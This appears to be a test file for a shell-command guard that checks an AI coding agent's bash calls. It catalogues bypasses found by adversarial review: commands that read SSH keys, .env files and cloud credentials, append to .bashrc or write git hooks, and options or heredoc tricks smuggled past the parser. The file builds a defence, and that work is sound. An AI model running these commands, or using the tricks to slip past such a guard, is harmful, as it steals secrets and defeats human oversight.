// Bypasses of the floor found by adversarial review (each one run in real bash 5.2, git 2.39 and GNU tools first),
// pinned next to the look-alikes that stay allowed. Every "review" row was an "allow" before its fix.
import { describe, expect, it } from "vitest";
import {
	applyGuardianDefaults,
	decideBashFloor,
	decideFloor,
	type FloorContext,
	floorContextFor,
	floorFactRequestsOf,
	globPartMayMatchName,
	globPartsMayMeet,
	isPrintOnlySedScript,
	MAX_SEARCH_TREES,
	nameSplitsInXargs,
	type SearchTreeVerdict,
} from "../src/guardian/index.js";
import { outcome, withCleanTrees } from "./floor-outcome.js";

const HOME = "/home/dev";
const CWD = "/home/dev/project";
const config = applyGuardianDefaults({ mode: "enforce" });
const clean = floorContextFor(config, CWD, HOME, {
	gitConfig: "safe",
	gitHooks: "none",
	gitHistoryProtected: [],
	gitContentSettings: [],
	gitTop: CWD,
});

function decide(command: string, context: FloorContext = clean, trees: SearchTreeVerdict = "none"): string {
	return outcome(decideBashFloor(command, "always", withCleanTrees(command, context, trees)));
}

/** A command the shell must list first: allowed with every tree `none`, reviewed with any other fact or none at all. */
function expectOnlyAListedNoneAllows(command: string): void {
	expect(decide(command)).toMatch(/^allow:/);
	expect(decide(command, clean, "protected")).toBe("review:protected-path");
	expect(decide(command, clean, "unknown")).toBe("review:protected-path");
	expect(outcome(decideBashFloor(command, "always", clean))).toBe("review:protected-path");
}

const reviewed = (command: string) => expect(decide(command)).toMatch(/^review:/);
const decides = (command: string, expected: string) => expect(decide(command)).toBe(expected);

describe("a cd may fail, run elsewhere or not run at all", () => {
	it.each<[string]>([
		// A failed cd leaves the shell where it was: `../.bashrc` is then the home folder's.
		["cd zz/zz; cd ../../..; echo x >> .bashrc"],
		["cd a/b || echo evil >> ../../../.bashrc"],
		["! cd a/b && echo evil >> ../../../.bashrc"],
		["true || cd a/b; echo x >> ../../../.bashrc"],
		["false && cd a/b; touch ../../../x"],
		// A backgrounded cd and one behind nice or timeout run in another process.
		["cd a/b & cd ../../.. && echo x >> .bashrc"],
		["nice cd a/b; touch ../../../.bashrc"],
		["timeout 5 cd a/b; touch ../../../.bashrc"],
		// A compound command's redirect is opened before its body runs.
		["{ cd a/b; } >> ../../../.bashrc"],
		["{ cd a/b; echo evil; } >> ../../../.bashrc"],
		// Branches exclude each other, and a loop runs its body again from where the last pass left it.
		["if false; then cd a/b; else echo evil >> ../../../.bashrc; fi"],
		["cd a && for i in 1 2; do cd .. && touch x; done"],
		["cd a/b && for i in 1 2 3 4; do cd ..; cat .ssh/id_rsa; done"],
		// `cd -L`, `cd -P` and `cd --` go home; `cd ''` stays.
		["cd -L && echo x >> .bashrc"],
		["cd -- && touch .bashrc"],
		["cd '' && cd config && cat master.key"],
		// A bare cd goes home, outside the workspace.
		["cd && grep -r AKIA"],
		["cd && ls -la"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["cd sub && grep -n x f", "allow:read-only"],
		["cd sub && cat ../README.md", "allow:read-only"],
		["cd sub; ls", "allow:read-only"],
		["cd sub || exit 1", "allow:read-only"],
		["(cd sub && ls) && cat README.md", "allow:read-only"],
		["for f in a b; do cat $f; done", "review:dynamic"],
		["for f in a.py b.py; do wc -l a.py; done", "allow:read-only"],
		["if test -f a; then cat a; else cat b; fi", "allow:read-only"],
	])("%j → %s", decides);
});

describe("shell state the floor cannot see", () => {
	it.each<[string]>([
		// `set -k` moves NAME=value arguments into the environment; `-a` exports every assignment.
		["set -k; git diff GIT_EXTERNAL_DIFF=evil.sh"],
		["set -a; ls"],
		// `{NAME}>file` stores a descriptor number in NAME.
		["true {PATH}>o; ls"],
		// bash drops a backslash-newline first: `{HO\⏎ME}>f` is `{HOME}>f` (a twenty-first review).
		["echo {HO\\\nME}>/dev/null; git status"],
		["echo {PATH\\\n}>/dev/null; ls"],
		["echo {GIT_DIR}>o && git status"],
		// Loop variables that programs read from the environment.
		["for PATH in .; do ls; done"],
		["for HOME in .; do git status; done"],
		["for https_proxy in x; do ls; done"],
		// PYTHONPATH makes pip import workspace code.
		["PYTHONPATH=. pip --version"],
		["PYTHONPATH=. pip list"],
		// Version probes that obey workspace files.
		["cargo --version"],
		["rustc --version"],
		["pnpm --version"],
		["yarn --version"],
		// `test -v` evaluates an array subscript; arithmetic next to a process substitution assigns.
		["test -v 'a[$(touch x)]'"],
		["cat <(true)$((HOME=0)); ls"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["set -euo pipefail; ls", "allow:read-only"],
		["set -x && cat a", "allow:read-only"],
		// A `<(…)` may outlive the call: its reads are reviewed since a forty-eighth review.
		["diff <(sort a) <(sort b)", "review:dynamic"],
		["python3 --version", "allow:read-only"],
		// `-v` is `--version` for Node, npm and tsc (a fifty-sixth review); not for pnpm, whose version follows a
		// workspace file, nor as a second word.
		["node -v", "allow:read-only"],
		["npm -v", "allow:read-only"],
		["tsc -v", "allow:read-only"],
		["pnpm -v", "review:not-read-only"],
		["python3 -v", "review:not-read-only"],
		["node -v x.js", "review:not-read-only"],
		["for i in {1..3}; do cat README.md; done", "allow:read-only"],
	])("%j → %s", decides);

	it("a trusted inline script may hold glob characters: it is a quoted word, not a path", () => {
		const trusted = floorContextFor(
			applyGuardianDefaults({ mode: "enforce", trustedCommands: ["python -c"] }),
			CWD,
			HOME,
			{ gitConfig: "safe", gitHooks: "none" },
		);
		expect(decide('cd sub && python -c "print([x * 2 for x in range(3)])"', trusted)).toBe("allow:trusted-command");
		// It may quote, too: the quote rule is for arguments a runner parses (a nineteenth review).
		expect(decide(`python -c "import json; print(json.load(open('data.json'))['a'])"`, trusted)).toBe(
			"allow:trusted-command",
		);
		expect(decide(`python -c "print(1)" "--x='y'"`, trusted)).toBe("review:not-read-only");
	});

	it("PYTHONPATH is allowed in front of a trusted command, which runs workspace code anyway", () => {
		const trusted = floorContextFor(
			applyGuardianDefaults({ mode: "enforce", trustedCommands: ["pytest"] }),
			CWD,
			HOME,
			{ gitConfig: "safe", gitHooks: "none" },
		);
		expect(decide("PYTHONPATH=. pytest tests", trusted)).toBe("allow:trusted-command");
		expect(decide("PYTHONPATH=. pip list", trusted)).toBe("review:environment");
		expect(decide("PYTHONPATH=src:.:: pytest", trusted)).toBe("allow:trusted-command");
		expect(decide("PYTHONWARNINGS=ignore::DeprecationWarning pytest", trusted)).toBe("allow:trusted-command");
	});

	it.each<[string, string]>([
		// Code from outside the workspace: a sitecustomize.py there runs at start-up.
		["PYTHONPATH=/tmp/evil pytest", "review:outside-workspace"],
		["PYTHONPATH=src:/tmp/evil pytest", "review:outside-workspace"],
		["PYTHONPATH=~/lib pytest", "review:outside-workspace"],
		["PYTHONPATH=.. pytest", "review:outside-workspace"],
		["PYTHONPATH=.git/hooks pytest", "review:protected-path"],
		// A dotted warning category is imported from the same path: the environment's or the workspace's.
		["PYTHONWARNINGS=ignore::pytest.PytestRemovedIn8Warning pytest tests", "allow:trusted-command"],
		["PYTHONPATH=/tmp/evil PYTHONWARNINGS=ignore::evilmod.X pytest", "review:outside-workspace"],
		// Runners read settings inside a word whatever its quoting: pytest's `pythonpath` ini key, `--rootdir`. Since
		// a thirty-second review any `pythonpath` setting is reviewed: pytest resolves it from its rootdir.
		["pytest --override-ini=pythonpath=.. -p evil", "review:not-read-only"],
		["pytest -o 'pythonpath=..' -p evil", "review:not-read-only"],
		["pytest -o 'pythonpath=. /tmp/evil'", "review:not-read-only"],
		// An option word holding a blank is not judged at all (a fifteenth review).
		["pytest '--rootdir= ..'", "review:not-read-only"],
		["pytest -o pythonpath=src -k 'test_a or test_b'", "review:not-read-only"],
		["pytest tests/test_x.py::TestA::test_b --url=http://example.com/x", "allow:trusted-command"],
	])("a code path in front of a trusted command must stay in the workspace: %j → %s", (command, expected) => {
		const trusted = floorContextFor(
			applyGuardianDefaults({ mode: "enforce", trustedCommands: ["pytest"] }),
			CWD,
			HOME,
			{ gitConfig: "safe", gitHooks: "none" },
		);
		expect(decide(command, trusted)).toBe(expected);
	});
});

describe("heredocs whose end bash finds elsewhere are unparsed", () => {
	it.each<[string]>([
		["cat <<$'EOF'\nbody\nEOF\necho evil >> ~/.bashrc\n$EOF"],
		['cat <<$"EOF"\nbody\nEOF\ntouch /etc/x\n$EOF'],
		["cat <<E$'OF' > notes.md\nbody\nEOF\ntouch ~/.bashrc\nE$OF"],
		["cat <<EOF\nEO\\\nF\ntouch /etc/x\nEOF"],
		["cat <<EOF\na\\\nEOF\ncat <<'EOF2'\nEOF\ntouch /etc/x\nEOF2"],
		["cat <<EOF\n$\\\n(touch x)\nEOF"],
		// An eighteenth review: bash reads `${…}` and `$[…]` in a delimiter as one unit, blanks included, so the body
		// ends a line earlier than a parser that stops the word at the blank.
		// biome-ignore lint/suspicious/noTemplateCurlyInString: bash text, not a template
		["cat <<'a'${x y}\na${x y}\ncat ~/.ssh/id_rsa .env; echo pwned > $HOME/MARKER\na${x\necho }"],
		["cat <<\\q$[x y]\nq$[x y]\necho evil >> ~/.bashrc\nq$[x\necho ]"],
		["cat <<E`x y`\nE`x y`\ntouch /etc/x\nE`x\necho `"],
		// biome-ignore lint/suspicious/noTemplateCurlyInString: bash text, not a template
		['cat <<"E${x y}"\nbody\nE${x y}\ntouch /etc/x'],
		// bash 5.2 does not read a waiting heredoc's body at a newline inside `<(…)` or `$(…)`: it runs those lines.
		["cat <<'E' <(pwd\ncat ~/.ssh/id_rsa; echo pwned > $HOME/MARKER2\nE\n)"],
		["cat <<'E' $(pwd\ntouch ~/.bashrc\nE\n)"],
		["cat <<'E' >(cat\ntouch ~/.bashrc\nE\n)"],
	])("reviews %j", (command) => {
		expect(decide(command)).toBe("review:unparsed");
	});

	it("heredocs still parse where a substitution opens after their bodies, or holds its own", () => {
		expect(decide("cat <<'EOF' > notes.md\nbody\nEOF\ncat <(echo a\necho b)")).toBe("allow:workspace-write");
		expect(decide("cat <(cat <<'E'\ninner\nE\n)")).toBe("allow:read-only");
		expect(decide("cat <<'$EOF' > notes.md\nbody\n$EOF")).toBe("allow:workspace-write");
	});

	it("a quoted heredoc may end its lines in a backslash", () => {
		expect(decide("cat > notes.md <<'EOF'\nline \\\nEOF")).toBe("allow:workspace-write");
	});
});

describe("options smuggled in by globs, braces and attached values", () => {
	it.each<[string]>([
		["rg x [-]-pre=sh x.sh"],
		["find README.md [-]exec sh x.sh ;"],
		["sort f [-]o../.bashrc"],
		["git log -p [-]-output=../.bashrc"],
		// Creating a file named like an option is reviewed.
		["touch ./--pre=sh"],
		["echo x > ./-exec"],
		["cat {/home/dev/.netrc,}"],
		["cat {.e,}nv"],
		["grep -e. ../.ssh/id_rsa"],
		["rg -e. ../.aws/credentials"],
		["grep --color '' ../.ssh/id_rsa"],
		["grep -f.env x"],
		["grep --fil ../.ssh/id_rsa README.md"],
		["file -f../.ssh/id_rsa"],
		["date -f.env"],
		["git blame -S../.ssh/id_rsa README.md"],
		["strings @.env"],
		["git grep --open='touch x;' -e hi"],
		["git grep --open-files-in-pag=id x"],
		["git diff -O../.netrc"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["rm -- -rf", "allow:workspace-write"],
		["ls {a,b}.py", "allow:read-only"],
		["grep -rne TODO src", "allow:read-only"],
		["grep --color=always -n x a.txt", "allow:read-only"],
		["rg --color never -n x src", "allow:read-only"],
		["cut -d/ -f2 a.txt", "allow:read-only"],
		["git log --oneline --stat -5", "allow:read-only"],
	])("%j → %s", decides);
});

describe("globs and recursive searches that reach protected files", () => {
	it.each<[string]>([
		["cat .gi?/config"],
		["cat sub/.gi[t]/config"],
		["cat .e[n]v.local"],
		["cat .e*.local"],
		["grep '' *.*"],
		// Globs the shell's listing cannot bound: hidden parts, `..` after a wildcard, brackets, trusted commands.
		["cat .*"],
		["cat src/*/../../.ssh/id_rsa"],
		["cat src/*/.env"],
		["cat [k]ey.pem"],
		["cat ~/notes/*.txt"],
		["shopt -s dotglob; cat src/*"],
		["shopt -s nocaseglob; cat src/*.PY"],
		["GLOBIGNORE=x cat src/*.py"],
		["echo ../.ssh/*"],
		["printf '%s\\n' ../.aws/*"],
		["sh -c 'cat .?/.?/etc/passwd'"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["cat src/test_*.py", "allow:read-only"],
		["grep -rn TODO src", "allow:read-only"],
		["rg -n foo", "allow:read-only"],
		["grep -rn foo --include='*.py' src", "allow:read-only"],
	])("%j → %s", decides);

	it.each<[string, string, boolean]>([
		[".gi?", ".git", true],
		["*.py", "*.pem", false],
		["*.py", "id_*", true],
		["*.py", ".env*", false],
		[".*", ".env*", true],
		["*", "*.pem", true],
		["k*", "*.pem", true],
		["test_*", "id_*", false],
		["[.]env", ".env*", false],
		[".e*.local", ".env*", true],
	])("globPartsMayMeet(%j, %j) is %s", (shell, protectedGlob, meets) => {
		expect(globPartsMayMeet(shell, protectedGlob)).toBe(meets);
	});
});

describe("a glob word that could meet a protected glob is judged by what it can expand to (decision 0020)", () => {
	// `src/*.py` could expand to `src/id_rsa.py` (`id_*`): the shell lists the entries of the glob's literal folder
	// that its parts reach, level by level, links making it unknown; the floor allows only when none is protected.
	it.each<[string, string, string[]]>([
		["cat src/*.py", `${CWD}/src`, ["*.py"]],
		["ls *.md", CWD, ["*.md"]],
		["ls -d */", CWD, ["*"]],
		["wc -l pkg/*/tests/*.py", `${CWD}/pkg`, ["*", "tests", "*.py"]],
		["cat i?_rsa", CWD, ["i?_rsa"]],
		["cat *_rsa", CWD, ["*_rsa"]],
		["cat *.pe?", CWD, ["*.pe?"]],
		["cat k*", CWD, ["k*"]],
		["cd src && head -n 5 *.py", `${CWD}/src`, ["*.py"]],
	])("%j: lists %s where %j reaches; only `none` allows it", (command, root, pattern) => {
		const trees = floorFactRequestsOf(command, clean).searchTrees;
		expect(trees).toContainEqual({ root, skipsHidden: true, followsLinks: true, pattern });
		expectOnlyAListedNoneAllows(command);
	});

	it("a recursive search of a glob root lists the glob's literal folder whole", () => {
		const command = "grep -rn AltAz astropy/coordinates/builtin_frames/*.py";
		const trees = floorFactRequestsOf(command, clean).searchTrees;
		expect(trees).toContainEqual({
			root: `${CWD}/astropy/coordinates/builtin_frames`,
			skipsHidden: false,
			followsLinks: false,
		});
		expectOnlyAListedNoneAllows(command);
	});

	it("a glob outside the workspace is reviewed as an outside read, unlisted", () => {
		expect(decide("ls -d /memory/*/")).toBe("review:outside-workspace");
		expect(floorFactRequestsOf("ls -d /memory/*/", clean).searchTrees).toEqual([]);
		expect(decide("cat ~/.ssh/*")).toBe("review:protected-path");
	});

	it("a move earlier in the command makes the listing stale", () => {
		expect(decide("mv a b && cat src/*.py")).toBe("review:protected-path");
	});

	it.each<[string, string, boolean]>([
		["*.py", "app.py", true],
		["*.py", "app.pyc", false],
		["*.py", ".hidden.py", false],
		["i?_rsa", "id_rsa", true],
		["i?_rsa", "i_rsa", false],
		["*a*b", "xxaxxb", true],
		["*a*b", "xxaxxbx", false],
		["a*", "a", true],
		["k*", "key.pem", true],
		["tests", "tests", true],
		["tests", "Tests", false],
		// Outside ASCII what `?` matches depends on the locale: such a name is always listed.
		["?.pem", "\u{1F600}.pem", true],
		["x", "\u00e9", true],
	])("globPartMayMatchName(%j, %j) is %s", (part, name, matches) => {
		expect(globPartMayMatchName(part, name)).toBe(matches);
	});

	it("matches a long adversarial part against a long name in linear-ish time (no regex)", () => {
		const part = `${"*a".repeat(60)}*b`;
		expect(globPartMayMatchName(part, "a".repeat(255))).toBe(false);
	});
});

describe("a recursive search of the workspace root is judged by what its tree holds (decision 0019)", () => {
	// GNU grep -r reads `.git/` and `.env` below the workspace root whatever its include globs (`--include=config`
	// meets `.git/config`): the shell lists the whole tree, opening `.git/` only when its config holds no credential.
	it.each<[string]>([
		["grep -r SECRET ."],
		["grep -rn TODO"],
		["grep -r --include=.env x ."],
		["grep -r --include=config x ."],
		["grep -rn foo --include='test_*.py' ."],
		["grep -d recurse x ."],
		["grep --dir recurse SECRET"],
		["rg --hidden -uu x"],
		["grep -r SECRET {,}."],
		["cd src && grep -rn x .."],
		["grep -rn x ../project"],
	])("%j: the shell lists the workspace root, hidden entries included; only `none` allows it", (command) => {
		const trees = floorFactRequestsOf(command, clean).searchTrees;
		expect(trees.map((tree) => [tree.root, tree.skipsHidden])).toContainEqual([CWD, false]);
		expectOnlyAListedNoneAllows(command);
	});

	it.each<[string]>([
		// Above the root, and globs that may expand to `..` or a protected folder, stay in review unlisted.
		["grep -r x .."],
		["grep -r x .*"],
		["grep -rn x ../.."],
		["cd src && grep -rn x ../.."],
		["grep -r x *"],
		["rg --hidden x /"],
	])("reviews %j whatever the trees hold", (command) => {
		expect(decide(command)).toMatch(/^review:/);
	});
});

describe("found by a second review of the fixes", () => {
	it.each<[string]>([
		// A world whose status is unknown both runs and skips the next pipeline.
		["true || cd a/b && echo x >> ../../../.bashrc"],
		["true || cd a/b && cat ../../../.ssh/id_rsa"],
		// Brace words that expand to options.
		["sort README.md {,}-o../.bashrc"],
		["rg x {,}--pre=sh x.sh"],
		["find README.md {.,}-exec sh x.sh ';'"],
		// Recursive reads of the root by other commands; git searching untracked files.
		["diff -ruN e ."],
		["git diff --no-index e ."],
		["git grep --no-index -e SECRET"],
		["git grep --untracked -e x"],
		// git in a loop, in the background or in a pipeline next to a write.
		["for i in 1 2; do (cd b && git status); echo x > b/config; done"],
		["{ sleep 1; cd b && git status; } & echo x > b/config"],
		["git status | tee b/config"],
		// bash keeps `@` in a name; Pi's tools drop it.
		["mkdir -p @/../../../etc/d"],
		// Character classes in globs.
		["cat .[[:alpha:]]nv"],
		["cat .[!]]nv"],
		["cat .gi[[:alpha:]]/config"],
		["cat key.p[[:alpha:]]m"],
		// Options the search scan does not know, and prefixes of --directories.
		["grep -r --after-context 1 SECRET"],
		["rg -uu --engine default SECRET"],
		["sort --files0-from=list"],
		["jq -nf ../.ssh/id_rsa"],
		["jq --run-tests ../.aws/credentials"],
		// Values attached inside a bundle.
		["file -bf../.aws/credentials"],
		["file -mid_rsa README.md"],
		["git blame -wS../.aws/credentials README.md"],
		["date -fkey.pem"],
		["PYTHONWARNINGS=ignore::lib2to3.__main__.X pip show x"],
		["strings ?list"],
		["uniq ?x"],
		["mkdir -p ./-o/.."],
		["git show :0:id_rsa"],
		["git show HEAD^{/a:b}:.env"],
		["echo {PATH[0]}>o; ls"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["grep -rn x {src,tests}", "allow:read-only"],
		["git diff --no-index a.txt b.txt", "allow:read-only"],
		["git grep -n TODO", "allow:read-only"],
		["sort -t, -k2 a.csv", "allow:read-only"],
		["head -n5 README.md", "allow:read-only"],
		["git show HEAD:src/a.py", "allow:read-only"],
		["diff -u a.txt b.txt", "allow:read-only"],
		["diff -r src tests", "allow:read-only"],
	])("%j → %s", decides);
});

describe("found by a third look", () => {
	it.each<[string]>([
		["tree -a -R -L 1 -H x ."],
		["find -O10 /home/dev/.ssh"],
		["find -- /home/dev -maxdepth 1"],
		// dash reads `&>` as `&` then `>`, so the cd runs in the background; other shells are not judged at all.
		["sh -c 'cd a/b &>/dev/null && echo x >> ../../../.bashrc'"],
		["zsh -c 'ls'"],
		// A stash takes files out and puts them back: git after it cannot trust the facts.
		["git stash pop && cd b && git status"],
		["rg {,}--pre=sh x x.sh"],
		["grep {,}-r SECRET ."],
		// A process substitution runs beside the command that follows it.
		["ls <(sleep 1; cd b && git status) >/dev/null; echo x > b/config"],
		["diff -N e ."],
		// After `cd -` the folder is unknown: a command with no path reads it.
		["cd - && ls"],
		["cd - && rg -l foo"],
		// The value has lost its quotes: `\]` inside a bracket.
		["cat .[e\\]]nv"],
		["cat .[e']']nv"],
		["cat .gi[t\\]]/config"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["sh -c 'cat README.md'", "allow:read-only"],
		["bash -c 'cd sub && ls'", "allow:read-only"],
		["tree -L 2 src", "allow:read-only"],
		["find -L . -name x", "allow:read-only"],
		["git stash && python -V", "allow:workspace-write"],
		["ls -lrt .", "allow:read-only"],
		["cat -n a.txt", "allow:read-only"],
		["ls", "allow:read-only"],
	])("%j → %s", decides);
});

describe("found by a fourth look", () => {
	it.each<[string]>([
		["diff --to-file=. sub"],
		["diff --from-file=. sub"],
		["cat .[e\\]x]nv"],
		["cat key.p[e\\]x]m"],
		["cat .gi[t\\]x]/config"],
		// A background job that writes may still run when the next call's git facts are read.
		["{ sleep 4; echo x > b/config; } >/dev/null 2>&1 &"],
		// Ignore files decide what rg and git read.
		["printf '!.env\\n' > .ignore && rg SECRET"],
		["echo '!.env' >> .gitignore"],
		["cp notes.txt .rgignore"],
		// A process substitution that writes may still run when the next call's git facts are read.
		["ls <(sleep 4; echo x > b/config) >/dev/null 2>&1"],
		// Commands that read the files a list names.
		["wc --files0-from=list"],
		["du --files0-from=list"],
		["md5sum -c sums"],
		["file -f list"],
		// Case-insensitive file systems: `.GIT/hooks` is `.git/hooks` there.
		["cat > .GIT/hooks/pre-commit"],
		["cat .ENV"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["diff --to-file=a.txt b.txt", "allow:read-only"],
		["cat src/[ab].py", "allow:read-only"],
		["sleep 1 &", "allow:read-only"],
		["cat .gitignore", "allow:read-only"],
		// A `<(…)` may outlive the call: its reads are reviewed since a forty-eighth review.
		["diff <(sort a) <(sort b)", "review:dynamic"],
		["md5sum a.txt", "allow:read-only"],
		// A quoted glob is one literal name; a pipeline after a stash runs no git beside a write.
		["cat 'a*b'", "allow:read-only"],
		["git stash && python -V 2>&1 | tail -1", "allow:workspace-write"],
		["for f in a.txt b.txt; do echo x > out.txt; done && git status", "review:git-config"],
		["git status & echo x > notes.txt", "review:git-config"],
	])("%j → %s", decides);
});

describe("found by a fifth look", () => {
	it.each<[string]>([
		// A glob in the pattern slot, an option's value or jq's filter: its other words are files nobody judged.
		["touch '0*' && grep ''*"],
		["rg ''*"],
		["grep -e ''*"],
		["grep ''.e* README.md"],
		["jq -R ''*"],
		["jq -R --arg a ''* ."],
		["grep -A ''* x README.md"],
		// The leading-wildcard check reads the value, not the quoted text.
		["rg foo ''[-]-pre=s? README.md"],
		["true {PATH[a[0]]}>o; ls"],
		// `/usr/bin/cd` is a program: it cannot move the shell.
		["/usr/local/bin/cd a/b && echo x >> ../../../.bashrc"],
		["sort -S1 -T/ big.txt"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["jq '.a' package.json", "allow:read-only"],
		["rg -n foo src", "allow:read-only"],
		["grep -n 'a*b' README.md", "allow:read-only"],
	])("%j → %s", decides);
});

describe("sed, jq, find and pip forms that run, write, read or reach further", () => {
	it.each<[string]>([
		["t x e touch /tmp/pwned\n:x"],
		[":a w /tmp/x"],
		["b x w /tmp/pwned\n:x"],
		["s/[/]/g;p/e;s/q/p/p"],
	])("isPrintOnlySedScript(%j) is false", (script) => {
		expect(isPrintOnlySedScript(script)).toBe(false);
	});

	it.each<[string]>([[":a;N;$!ba;p"], ["s/[0-9]/x/gp"], ["/[/]/p"], ["s/a/[b]/"]])(
		"isPrintOnlySedScript(%j) is true",
		(script) => {
			expect(isPrintOnlySedScript(script)).toBe(true);
		},
	);

	it.each<[string]>([
		["jq -n '$a' --args --rawfile a ../.ssh/id_rsa"],
		["jq -n '$ENV'"],
		['jq -n \'import "config" as $c {search:"~/.docker"}; $c\''],
		["jq -L../lib -n 1"],
		["find -O3 /home/dev -name 'id_*'"],
		["find -D tree /home/dev"],
		["find -files0-from list"],
		["pip list -o"],
		["pip list --outdated"],
		["pip list --index-url http://x"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		["jq -n '$x' --args a b", "allow:read-only"],
		["jq '.version' package.json", "allow:read-only"],
		["find -L . -name '*.py'", "allow:read-only"],
		["pip list --format=json", "allow:read-only"],
		["pip show -f requests", "review:not-read-only"],
	])("%j → %s", decides);
});

describe("find -exec with a reader is a read of every tree it walks (decision 0021)", () => {
	// Links count as followed (any link makes the tree unknown): find hands the reader a link, which opens its target.
	const tree = (root: string) => ({ root: `${CWD}${root}`, skipsHidden: false, followsLinks: true });

	it.each<[string, readonly { root: string; skipsHidden: boolean; followsLinks: boolean }[]]>([
		["find src -name '*.py' -exec grep -l KEY {} +", [tree("/src")]],
		["find . -exec cat {} \\;", [tree("")]],
		["find -exec cat {} +", [tree("")]],
		["find -L src -exec head -5 {} ';'", [tree("/src")]],
		["find -H src -exec head -5 {} ';'", [tree("/src")]],
		["find src -follow -exec wc -l {} +", [tree("/src")]],
		["find a b -exec cat {} +", [tree("/a"), tree("/b")]],
		["cd src && find . -exec cat {} +", [tree("/src")]],
		// The workspace root is listed like any tree (decision 0019), from below it too.
		["cd src && find .. -exec cat {} +", [tree("")]],
		// Without -exec, find prints names and reads no file: no tree to list.
		["find src -name '*.py'", []],
	])("%j asks the shell about %j", (command, expected) => {
		expect(floorFactRequestsOf(command, clean).searchTrees).toEqual(expected);
	});

	it.each<[string]>([
		["find src -name '*.py' -exec grep -l KEY {} +"],
		["find . -type f -exec cat {} +"],
		["find src -exec cat {} \\; -exec head -1 {} \\;"],
		["find src -name x -exec echo {} ';'"],
		// echo opens no file: a header around the path only prints it (an agent's `=== {} ===` before `head`).
		["find src -name conftest.py -exec echo '=== {} ===' \\; -exec head -50 {} \\;"],
	])("%j is allowed only when the shell found no protected entry in the tree", expectOnlyAListedNoneAllows);

	it.each<[string, string]>([
		// Readers only: anything else find runs is reviewed, as is a reader that writes or runs.
		["find . -exec rm {} \\;", "review:not-read-only"],
		["find . -exec sh -c 'cat \"$1\"' _ {} \\;", "review:not-read-only"],
		["find . -exec env cat {} +", "review:not-read-only"],
		["find . -exec sed -i s/a/b/ {} +", "review:not-read-only"],
		// Not sed at all: a found path in its script's place is a script (`src/rxrw/tmp/x` writes /tmp/x).
		["find src -exec sed -n '1,5p' {} \\;", "review:not-read-only"],
		["find src -exec sed -n {} \\;", "review:not-read-only"],
		["find . -exec sed -n 'w /tmp/x' {} +", "review:not-read-only"],
		["find . -exec grep -P x {} +", "review:not-read-only"],
		// GNU find fills in `{}` inside a longer word too.
		["find . -exec cat {}.bak \\;", "review:not-read-only"],
		["find . -exec head -5 '{}' -n{}1 \\;", "review:not-read-only"],
		["find . -exec echo '=== {} ===' \\; -exec cat {}.bak \\;", "review:not-read-only"],
		// No terminator: find refuses to run, and the floor does not guess the clause.
		["find . -exec cat {}", "review:not-read-only"],
		// -execdir runs in each found file's folder, -ok asks on a terminal Pi does not give it.
		["find . -execdir cat {} +", "review:not-read-only"],
		["find . -ok cat {} \\;", "review:not-read-only"],
		// The reader's other words are judged where find runs.
		["find src -exec cat .env \\;", "review:protected-path"],
		["find src -exec cat /etc/passwd \\;", "review:outside-workspace"],
		["find src -exec grep -f ~/.ssh/id_rsa {} +", "review:protected-path"],
		// Roots above or outside the workspace, or protected.
		["find .. -exec cat {} +", "review:outside-workspace"],
		["find ~/.ssh -exec cat {} +", "review:protected-path"],
		["find /etc -exec cat {} +", "review:outside-workspace"],
	])("%j → %s", decides);
});

describe("xargs after a find that prints only paths reads every tree the find walks (decision 0021)", () => {
	const tree = (root: string, splitsNames = true) => ({
		root: `${CWD}${root}`,
		skipsHidden: false,
		followsLinks: true,
		...(splitsNames ? { splitsNames: true } : {}),
	});

	it.each<[string, readonly object[]]>([
		["find src -name '*.py' | xargs grep -l KEY", [tree("/src")]],
		["find . -name '*.py' | grep -v test | xargs grep -n KEY", [tree("")]],
		["find -name '*.py' | xargs wc -l", [tree("")]],
		["find src -print0 | xargs -0 cat", [tree("/src", false)]],
		["find a b | xargs -I{} head -5 {}", [tree("/a"), tree("/b")]],
		["cd src && find . | head -20 | sort | uniq | xargs cat", [tree("/src")]],
	])("%j asks the shell about %j", (command, expected) => {
		expect(floorFactRequestsOf(command, clean).searchTrees).toEqual(expected);
	});

	it.each<[string]>([
		["find src -name '*.py' | xargs grep -l KEY"],
		["find src -name '*.py' | xargs grep -l KEY | grep -v test"],
		["find src -type f | grep -v __pycache__ | xargs grep -n KEY"],
		["find src -print0 | xargs -0 cat"],
		["find src 2>/dev/null | xargs -r -n 1 -P 4 grep -l KEY"],
		["find src | xargs grep -l KEY 2>/dev/null > found.txt"],
		["find src | xargs -I{} head -5 {}"],
		["find src | tail -n +2 | sort -u | xargs"],
		["find . -path ./tests -prune -o -name '*.py' -print | xargs grep -l KEY"],
	])("%j is allowed only when the shell found no protected entry in the tree", expectOnlyAListedNoneAllows);

	it.each<[string, string]>([
		// Only paths find printed, whole: nothing else feeds xargs.
		["cat list | xargs cat", "review:not-read-only"],
		["ls | xargs cat", "review:not-read-only"],
		["git ls-files | xargs cat", "review:not-read-only"],
		["xargs cat < list", "review:not-read-only"],
		["find src -printf '%p\\n' | xargs cat", "review:not-read-only"],
		["find src -ls | xargs cat", "review:not-read-only"],
		["find src -exec cat {} + | xargs cat", "review:not-read-only"],
		["find src 2>&1 | xargs cat", "review:not-read-only"],
		["find src |& xargs cat", "review:not-read-only"],
		["find src | grep -v x |& xargs cat", "review:not-read-only"],
		// A redirect that replaces the pipe as xargs's stdin.
		["find src | xargs cat < list", "review:not-read-only"],
		["find src | xargs cat <<< .env", "review:not-read-only"],
		["find src | xargs cat 0<&3", "review:not-read-only"],
		["find src | grep -v x < list | xargs cat", "review:not-read-only"],
		// Filters that change a line: a part of a path is another path.
		["find src | grep -o '[^ ]*$' | xargs cat", "review:not-read-only"],
		["find src | grep -n x | xargs cat", "review:not-read-only"],
		["find src | grep x other.txt | xargs cat", "review:not-read-only"],
		["find src | sed 's/^/\\//' | xargs cat", "review:not-read-only"],
		["find src | head -c 20 | xargs cat", "review:not-read-only"],
		["find src | cut -c 3- | xargs cat", "review:not-read-only"],
		["find src | uniq -c | xargs cat", "review:not-read-only"],
		// NUL on one side only, and a root xargs would split.
